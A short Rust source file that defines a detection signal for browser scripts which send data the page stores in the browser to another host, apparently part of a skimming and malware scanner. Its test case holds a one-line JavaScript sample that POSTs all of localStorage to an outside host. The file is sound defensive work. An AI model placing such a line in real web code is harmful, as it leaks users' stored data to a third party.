//! `storage-sent-abroad`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "storage-sent-abroad",
    description: "The script sends data that this page stores in the browser to another host.",
    severity: Severity::Medium,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[one(&[Atom::StorageSentAbroad])],
    within: 0,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &["fetch('https://c.example/s',{method:'POST',body:JSON.stringify(localStorage)})"],
        without: &["localStorage.setItem('seen',1);fetch('https://c.example/hello')"],
    },
};
